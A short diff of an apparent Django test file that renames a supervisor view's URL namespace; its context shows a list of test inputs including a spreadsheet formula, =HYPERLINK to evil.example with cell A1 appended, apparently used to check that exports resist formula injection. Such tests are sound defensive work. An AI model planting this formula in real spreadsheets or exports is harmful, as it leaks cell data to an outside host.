@@ -16,7 +16,7 @@ from tests.factories import make_user, open_ticket
 from visits.models import Visit
 
 pytestmark = pytest.mark.django_db
-URL = reverse("dispatch:supervisor")
+URL = reverse("supervision:supervisor")
 TABLES = ("overdue", "engineers", "teams", "weekly")
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此")',
